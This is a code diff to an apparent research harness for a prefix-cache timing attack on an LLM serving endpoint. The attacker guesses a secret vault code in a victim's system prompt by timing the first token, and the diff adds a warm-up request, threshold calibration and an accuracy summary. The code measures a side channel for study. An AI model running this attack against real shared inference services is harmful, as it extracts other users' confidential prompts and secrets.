@@ -4,10 +4,11 @@
 The attack. A victim's prompt opens with a secret (a system prompt naming a vault code).
 An attacker who can list candidate secrets sends each as the opening of its own prompt
 and times the first token: a guess the cache holds skips the prefill of its blocks and
-answers sooner. The attacker calibrates a threshold on its own prompts (one sent twice:
-a miss, then a hit on its own blocks), then calls each guess "cached" when its first
-token came sooner. Each trial uses a fresh code, so no guess ever hits the attacker's own
-earlier probes.
+answers sooner. The attacker warms up with one throwaway request, then calibrates a
+threshold on its own prompts (three, each sent twice: a miss, then a hit on its own
+blocks; the midpoint of the median miss and the median hit), and calls each guess
+"cached" when its first token came sooner. Each trial uses a fresh code, so no guess
+ever hits the attacker's own earlier probes.
 
     rows = timing_attack(url, tokenizer, trials=8, victim_key=None, attacker_key=None)
 
@@ -71,6 +72,9 @@ async def _attack(url, tokenizer, trials, victim_key, attacker_key, seed) -> pd.
     victim = httpx.AsyncClient(timeout=600, headers=bearer(victim_key))
     attacker = httpx.AsyncClient(timeout=600, headers=bearer(attacker_key))
     async with victim, attacker:
+        # One throwaway request first: a new connection and the engine's first prefills of
+        # a shape run slower than later ones, and would push the threshold up.
+        await first_token(attacker, endpoint, body(secret_ids(tokenizer, next(codes)) + tail))
         calibration = []
         for _ in range(3):  # its own prompt twice: a miss, then a hit
             mine = body(secret_ids(tokenizer, next(codes)) + tail)
@@ -98,15 +102,19 @@ async def _attack(url, tokenizer, trials, victim_key, attacker_key, seed) -> pd.
 
 
 def attack_summary(frames: dict[str, pd.DataFrame]) -> pd.DataFrame:
-    """Per setting: median TTFT of right and wrong guesses, the attacker's accuracy."""
+    """Per setting: median TTFT of right and wrong guesses, the attacker's accuracy with
+    its threshold, and the share of trials whose right guess answered first (an attacker
+    comparing its two guesses of a trial needs no threshold: 0.5 is a coin's)."""
     rows = []
     for setting, frame in frames.items():
         median = frame.groupby("guess")["ttft_s"].median()
+        by_trial = frame.pivot(index="trial", columns="guess", values="ttft_s")
         rows.append(
             {"setting": setting, "right guess, median TTFT (s)": round(median["right"], 3),
              "wrong guess, median TTFT (s)": round(median["wrong"], 3),
              "threshold (s)": round(frame.attrs["threshold_s"], 3),
-             "attacker's accuracy": round(frame["correct"].mean(), 2)}
+             "attacker's accuracy": round(frame["correct"].mean(), 2),
+             "right guess first": round((by_trial["right"] < by_trial["wrong"]).mean(), 2)}
         )  # fmt: skip
     return pd.DataFrame(rows).set_index("setting")
 
